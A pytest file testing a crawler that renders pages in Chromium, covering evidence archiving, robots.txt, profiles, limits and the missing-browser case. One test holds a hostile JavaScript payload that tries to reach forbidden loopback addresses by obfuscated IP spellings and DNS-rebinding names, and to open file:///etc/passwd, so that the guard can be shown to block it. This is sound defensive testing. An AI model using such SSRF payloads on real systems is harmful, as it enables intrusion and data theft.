"""Pages that their scripts build, by a real Chromium: what is kept of them, and where nothing may lead."""

import os
import re
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import Future
from contextlib import suppress
from io import BytesIO
from pathlib import Path

import pytest
from sqlalchemy import select
from warcio.archiveiterator import ArchiveIterator

from crawlers.alarms import watch_sources
from crawlers.browser_fetch import rendering
from crawlers.browser_fetch.missing import browser_findings
from crawlers.browser_fetch.rendering import Answer, Asked, render
from crawlers.checking import check_source
from crawlers.chromium import BrowserEnded
from crawlers.evidence.payload import body_of
from crawlers.hand_ins import HandInDesk
from crawlers.jobs import run_due_crawl
from crawlers.reextracting import reextract
from crawlers.sandbox import ParserChild
from crawlers.sources_config import SourceConfig
from models.blobs import BlobStore
from models.crawl import CrawlRun, Page
from models.enums import (
    AlarmKind,
    EvidenceKind,
    FetchResult,
    HandInState,
    HandInVia,
    RequestState,
    RunState,
)
from models.evidence import Evidence
from models.hand_in import HandIn
from models.integrity import verify_evidence
from models.urls import url_sha256
from models.watch import Alarm
from models.worker import utc_now
from tests.conftest import open_database, skip_unless_ci
from tests.crawlers.conftest import SITE_HOST, CrawlBench, bench_settings, channel_page
from tests.factories import make_user
from tests.servers.site import ForbiddenListener, Reply, Site

CHROMIUM = Path("/usr/bin/chromium")
START = f"http://{SITE_HOST}/"
SHELL = b"<!doctype html><html><head></head><body><script src=/list.js></script></body></html>"
# Data, then a wait by the clock, then the list: a plain fetch sees nothing of it.
SCRIPT = b"""fetch('/api/list').then(answer => answer.text()).then(html => setTimeout(() => {
  const box = document.createElement('div'); box.innerHTML = html; document.body.append(box);
}, 3000));"""
JS, JSON = "text/javascript", "application/json"

pytestmark = pytest.mark.browser


@pytest.fixture(autouse=True)
def _chromium() -> None:
    if not CHROMIUM.exists():
        skip_unless_ci("Chromium is not installed (apt-get install chromium)")


def _list_of(posts: dict[int, str]) -> bytes:
    return channel_page(posts).removeprefix(b"<html><body>").removesuffix(b"</body></html>")


def _lay_out(site: Site, posts: dict[int, str], shell: bytes = SHELL, script: bytes = SCRIPT) -> None:
    site.routes["/"] = Reply(shell, headers={"Set-Cookie": "a=1", "ETag": '"shell"'})
    site.routes["/list.js"] = Reply(script, content_type=JS)
    site.routes["/api/list"] = Reply(_list_of(posts), content_type=JSON)


def test_a_list_that_scripts_build_is_read_and_kept_beside_what_was_received(bench: CrawlBench) -> None:
    _lay_out(bench.site, {1: "Требуется няня", 2: "Жұмыс бар"})
    source_id = bench.add_source(browser={})
    run = bench.crawl(source_id)
    assert (run.state, run.n_failed) == (RunState.DONE, 0)
    assert {number: ad.text for number, ad in bench.ads().items()} == {
        "test/1": "Требуется няня",
        "test/2": "Жұмыс бар",
    }
    assert bench.site.paths()[:3] == ["/", "/list.js", "/api/list"]
    page = bench.pages()[0]
    assert (page.result, page.http_status, page.content_type) == (
        FetchResult.PAGE,
        200,
        "text/html; charset=utf-8",
    )
    store = BlobStore(bench.settings.evidence_dir)
    with bench.db.read() as session:
        evidence = session.get_one(Evidence, page.evidence_id)
    content = store.get(evidence.sha256)
    assert evidence.kind is EvidenceKind.BUILT
    assert "Требуется няня".encode() in body_of(content, evidence)
    assert list(verify_evidence(bench.db, store)) == [None]
    _check_records(content)


def _check_records(content: bytes) -> None:
    records = []
    for record in ArchiveIterator(BytesIO(content), check_digests="raise"):
        body = record.content_stream().read()
        records.append((record.rec_type, record.rec_headers, body))
    answers = {h.get_header("WARC-Target-URI"): (h, body) for kind, h, body in records if kind == "response"}
    assert answers[START][1] == SHELL
    assert b"tgme_widget_message" in answers[f"{START}api/list"][1]
    kind, headers, body = records[-1]
    assert kind == "conversion"
    assert headers.get_header("WARC-Refers-To") == answers[START][0].get_header("WARC-Record-ID")
    assert headers.get_header("Content-Type") == "text/html; charset=utf-8"
    facts, said = records[-2][1], records[-2][2].decode()
    assert facts.get_header("WARC-Refers-To") == headers.get_header("WARC-Record-ID")
    assert "software: Saqshy, Chrome/" in said
    assert "partsAnswered: 2" in said


def test_the_shell_is_asked_for_whole_each_time_and_the_list_may_change(bench: CrawlBench) -> None:
    _lay_out(bench.site, {1: "Первый текст, жұмыс бар"})
    source_id = bench.add_source(browser={})
    bench.crawl(source_id)
    _lay_out(bench.site, {2: "Второй текст, жұмыс бар"})
    bench.crawl(source_id)
    assert set(bench.ads()) == {"test/1", "test/2"}
    assert all("If-None-Match" not in served.headers for served in bench.site.served())
    assert all("Cookie" not in served.headers for served in bench.site.served())
    agents = {served.user_agent for served in bench.site.served()}
    assert agents == {bench.settings.user_agent}
    with ParserChild() as parser:
        report = reextract(
            bench.db, BlobStore(bench.settings.evidence_dir), parser, now=utc_now(), source_name="test_source"
        )
    assert (report.n_pages, report.n_failed) == (2, 0)


def test_scripts_are_fetched_once_in_a_run_and_each_page_has_its_own_profile(bench: CrawlBench) -> None:
    script = (
        b"""document.body.append(localStorage.getItem('seen') || document.cookie || 'nothing kept');
    localStorage.setItem('seen', 'STALE'); document.cookie = 'seen=STALE';"""
        + SCRIPT
    )
    _lay_out(bench.site, {1: "Первый текст, жұмыс бар"}, script=script)
    bench.site.routes["/second"] = Reply(SHELL)
    source_id = bench.add_source(
        browser={}, start=[START, f"{START}second"], limits={"max_pages": 2, "max_depth": 0}
    )
    bench.crawl(source_id)
    assert sorted(bench.site.paths()) == ["/", "/api/list", "/api/list", "/list.js", "/second"]
    store = BlobStore(bench.settings.evidence_dir)
    with bench.db.read() as session:
        built = [body_of(store.get(e.sha256), e) for e in session.scalars(select(Evidence))]
    assert len(built) == 2
    assert all(b"nothing kept" in body and b"STALE" not in body for body in built)


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        (b"", (RequestState.FAILED, FetchResult.WALL, None)),
        (b"document.title = 'Just a moment...'", (RequestState.FAILED, FetchResult.WALL, None)),
        (
            b"document.body.textContent = 'x'.repeat(200000)",
            (RequestState.FAILED, FetchResult.OVERSIZE, "rendered_too_large"),
        ),
    ],
)
def test_what_scripts_leave_is_judged_like_any_answer(
    bench: CrawlBench, script: bytes, expected: tuple[RequestState, FetchResult, str | None]
) -> None:
    _lay_out(bench.site, {1: "Первый текст, жұмыс бар"}, script=script)
    source_id = bench.add_source(browser={}, limits={"max_body_bytes": 100_000})
    run = bench.crawl(source_id)
    state, result, error = bench.requests()[START]
    assert (state, result) == expected[:2]
    assert expected[2] is None or error == expected[2]
    assert run.state is RunState.FAILED
    assert bench.ads() == {}


@pytest.mark.parametrize(
    ("reply", "result"),
    [
        (Reply(b"<title>Just a moment...</title><script src=/list.js></script>"), FetchResult.WALL),
        (Reply(b"gone", 410), FetchResult.GONE),
        (Reply(b"no", 403), FetchResult.REFUSED),
        (Reply(b"x" * 200_000), FetchResult.OVERSIZE),
    ],
)
def test_an_answer_that_is_no_page_is_shown_to_no_browser(
    bench: CrawlBench, reply: Reply, result: FetchResult
) -> None:
    bench.site.routes["/"] = reply
    bench.crawl(bench.add_source(browser={}, limits={"max_body_bytes": 100_000}))
    assert bench.requests()[START][1] is result
    assert "/list.js" not in [served.path for served in bench.site.served()]


def test_robots_hold_for_what_scripts_ask_for(bench: CrawlBench) -> None:
    _lay_out(bench.site, {1: "Первый текст, жұмыс бар"})
    bench.site.routes["/robots.txt"] = Reply(b"User-agent: *\nDisallow: /api/", content_type="text/plain")
    bench.crawl(bench.add_source(browser={}))
    assert bench.site.paths() == ["/", "/list.js"]
    assert bench.requests()[START][1] is FetchResult.WALL


SPELLINGS = ["127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]"]
HOSTILE = """
const wanted = %s;
const tries = [];
for (const there of wanted) {
  fetch(there + 'fetch').catch(() => 0);
  fetch(there + 'post', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0);
  fetch('/to?' + encodeURIComponent(there)).catch(() => 0);
  for (const tag of ['img', 'iframe', 'script', 'embed', 'video', 'object', 'link']) {
    const node = document.createElement(tag);
    node.rel = 'stylesheet'; node.type = ''; node.src = node.href = node.data = there + tag;
    document.body.append(node);
  }
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'modulepreload']) {
    const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = there + rel;
    document.head.append(link);
  }
  navigator.sendBeacon(there + 'beacon', 'x');
  new EventSource(there + 'events');
  try { new WebSocket(there.replace('http', 'ws') + 'socket'); } catch (e) {}
  try { new WebTransport(there.replace('http:', 'https:')); } catch (e) {}
  const work = `fetch('${there}worker').catch(() => 0); new WebSocket('${there.replace('http', 'ws')}w');`;
  new Worker(URL.createObjectURL(new Blob([work])));
  new SharedWorker(URL.createObjectURL(new Blob([work])));
  window.open(there + 'window');
  const form = document.createElement('form'); form.action = there + 'form'; form.target = '_blank';
  document.body.append(form); form.submit();
  const host = new URL(there).host;
  const urls = ['stun:' + host, 'turn:' + host + '?transport=tcp', 'turn:' + host];
  const peer = new RTCPeerConnection({iceServers: [{urls: urls, username: 'u', credential: 'c'}]});
  peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
}
navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0);
const save = document.createElement('a'); save.href = '/list.js'; save.download = 'saved'; save.click();
const steps = ['file:///etc/passwd', 'data:text/html,<p>moved', 'javascript:void 0', ...wanted, '/elsewhere'];
steps.forEach((step, n) => setTimeout(() => { location.href = step; }, 100 * n));
setTimeout(() => { alert('x'); document.body.append('still here, and long enough to be a page'); }, 5000);
"""


class _CountingUdp:
    """Counts datagrams that reach a port which nobody may send to."""

    def __init__(self, port: int) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", port))
        self._socket.settimeout(0.05)
        self.n_datagrams = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._count, daemon=True)

    def __enter__(self) -> "_CountingUdp":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()

    def _count(self) -> None:
        while not self._stop.is_set():
            with suppress(TimeoutError):
                self._socket.recv(2048)
                self.n_datagrams += 1


@pytest.fixture
def forbidden() -> Iterator[ForbiddenListener]:
    with ForbiddenListener() as listener:
        yield listener


# Names that an attacker's name server leads to this machine; the guard is all that stands before them.
NAMES = ["rebound.example", f"inner.{SITE_HOST}"]


@pytest.mark.parametrize(
    ("names", "delay_seconds"),
    [(NAMES, 0), pytest.param([*SPELLINGS, *NAMES], 2, marks=pytest.mark.slow)],
    ids=["short", "all-spellings"],
)
def test_s1_s2_nothing_of_a_page_reaches_a_forbidden_address(
    tmp_path: Path, site: Site, forbidden: ForbiddenListener, names: list[str], delay_seconds: float
) -> None:
    settings = bench_settings(tmp_path / "var", site, [SITE_HOST])
    overrides = settings.host_overrides | dict.fromkeys(NAMES, ("127.0.0.1", forbidden.port))
    settings = settings.model_copy(update={"host_overrides": overrides})
    bench = CrawlBench(site, settings, open_database(settings))
    there = [f"http://{host}:{forbidden.port}/" for host in names]
    _lay_out(site, {1: "Первый текст, жұмыс бар"}, script=(HOSTILE % there).encode())
    site.routes["/elsewhere"] = Reply(b"<html><body>moved to another page of the site</body></html>")
    for n, target in enumerate(there):
        path = "/to?" + target.replace(":", "%3A").replace("/", "%2F").replace("[", "%5B").replace("]", "%5D")
        site.routes[path] = Reply(b"", (301, 302, 303, 307, 308)[n % 5], headers={"Location": target})
    # As if the file named them: the name of a host is then no reason to refuse it.
    hosts = [name.strip("[]") for name in names]
    with _CountingUdp(forbidden.port) as udp:
        bench.crawl(bench.add_source(browser={"hosts": hosts}, limits={"delay_seconds": delay_seconds}))
    assert forbidden.n_connections == 0
    assert udp.n_datagrams == 0
    redirected = [path for path in site.paths(301) + site.paths(302) if path.startswith("/to?")]
    assert redirected  # the page's requests went as far as the guard
    assert "/elsewhere" not in [served.path for served in site.served()]
    assert "/sw.js" not in [served.path for served in site.served()]
    page = bench.pages()[0]
    assert (page.result, page.final_url) == (FetchResult.PAGE, START)
    with bench.db.read() as session:
        evidence = session.get_one(Evidence, page.evidence_id)
    content = BlobStore(settings.evidence_dir).get(evidence.sha256)
    built = body_of(content, evidence)
    assert b"still here, and long" in built
    assert b"root:x:0" not in built
    refused = dict(re.findall(rb"partsRefused-(\w+): (\d+)", content))
    assert int(refused[b"blocked_address"]) >= 3 * len(names), refused
    assert int(refused[b"navigation"]) >= len(names), refused
    bench.db.close()


def test_another_site_is_not_asked_even_where_it_could_be(tmp_path: Path, site: Site) -> None:
    settings = bench_settings(tmp_path / "var", site, [SITE_HOST, "counter.example", "parts.example"])
    bench = CrawlBench(site, settings, open_database(settings))
    shell = SHELL.replace(
        b"</head>",
        b"<script src=http://counter.example/spy.js></script>"
        b"<script src=http://cdn.parts.example/lib.js></script></head>",
    )
    _lay_out(site, {1: "Первый текст, жұмыс бар"}, shell=shell)
    bench.crawl(bench.add_source(browser={"hosts": ["parts.example"]}))
    assert set(bench.ads()) == {"test/1"}
    assert not [served for served in site.served() if served.host == "counter.example"]
    bench.db.close()


def test_without_a_browser_nothing_is_fetched_and_the_run_says_so(tmp_path: Path, site: Site) -> None:
    settings = bench_settings(tmp_path / "var", site, [SITE_HOST], chromium=tmp_path / "none")
    bench = CrawlBench(site, settings, open_database(settings))
    _lay_out(site, {1: "Первый текст, жұмыс бар"})
    run = bench.crawl(bench.add_source(browser={}))
    assert (run.state, run.error, run.n_pages) == (RunState.FAILED, "no_browser", 0)
    assert site.served() == []
    assert (bench.count(Page), bench.count(CrawlRun)) == (0, 1)
    with bench.db.write() as session:
        watch_sources(session, utc_now())
        assert AlarmKind.NO_BROWSER in session.scalars(select(Alarm.kind)).all()
        said = list(browser_findings(session, settings))
    assert [(finding.is_well, "test_source" in finding.text) for finding in said] == [(False, True)]
    lines = list(check_source(bench.db, settings, "test_source").lines())
    assert any("install Debian's package chromium" in line for line in lines)
    bench.settings = settings.model_copy(update={"chromium": None})
    assert bench.crawl(1).state is RunState.DONE
    with bench.db.write() as session:
        watch_sources(session, utc_now())
        assert session.scalars(select(Alarm.ended_at).where(Alarm.kind == AlarmKind.NO_BROWSER)).one()
    bench.db.close()


def test_what_people_hand_in_is_answered_where_there_is_no_browser(tmp_path: Path, site: Site) -> None:
    settings = bench_settings(tmp_path / "var", site, [SITE_HOST], chromium=tmp_path / "none")
    db = open_database(settings)
    CrawlBench(site, settings, db).add_source(browser={})
    with db.write() as session:
        url = f"{START}ad/1"
        user_id = make_user(session).id
        session.add(
            HandIn(
                handed_in_by_id=user_id,
                handed_in_at=utc_now(),
                via=HandInVia.TYPED,
                typed=url,
                url=url,
                url_sha256=url_sha256(url),
            )
        )
    desk = HandInDesk(db, BlobStore(settings.evidence_dir))
    desk.take(utc_now())
    run_due_crawl(db, settings, now=utc_now())
    desk.take(utc_now())
    with db.read() as session:
        item = session.scalars(select(HandIn)).one()
    assert (item.state, item.result, item.why) == (HandInState.ANSWERED, FetchResult.BROKEN, "no_browser")
    db.close()


@pytest.mark.parametrize(
    ("script", "why", "patience"),
    [
        ("for (;;) {}", "browser_timeout", 3.0),
        # A busy machine needs its time to fill so much; patience must not end first.
        (
            "const all = []; setInterval(() => all.push(new Uint8Array(1 << 27).fill(1)));",
            "browser_memory",
            200.0,
        ),
        ("document.body.textContent = 'x'.repeat(1 << 24)", "browser_message_too_long", 200.0),
    ],
)
def test_a_page_that_takes_too_much_is_ended(
    monkeypatch: pytest.MonkeyPatch, script: str, why: str, patience: float
) -> None:
    monkeypatch.setattr(rendering, "IDLE_SECONDS", patience)
    answer = Answer(200, {"content-type": "text/html"}, f"<body><script>{script}</script>".encode())
    with pytest.raises(BrowserEnded) as ended:
        render(CHROMIUM, START, answer, _no_part, user_agent="x", max_bytes=100_000)
    assert ended.value.context["why"] == why
    assert not _browsers()


def _no_part(_asked: Asked) -> "Future[Answer | str]":
    future: Future[Answer | str] = Future()
    future.set_result("not_here")
    return future


def _browsers() -> list[bytes]:
    """Command lines of browsers that this process started and that still run."""
    found = []
    for path in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            if int(path.read_bytes().rpartition(b")")[2].split()[1]) == os.getpid():
                found.append(path.with_name("cmdline").read_bytes())
    return [line for line in found if b"saqshy-browser-" in line]


def test_hosts_of_a_browser_are_known_to_the_pace() -> None:
    config = SourceConfig.model_validate(
        {
            "name": "with_parts",
            "kind": "classifieds",
            "title": "x",
            "start": [START],
            "schedule": {"every_minutes": 60},
            "browser": {"hosts": ["cdn.example"]},
        }
    )
    assert "cdn.example" in config.asked_hosts
    assert config.is_part_place("https://a.cdn.example/x.js")
    assert not config.is_on_site("https://a.cdn.example/x.js")
    assert not config.is_part_place("https://cdn.example.evil.example/x.js")
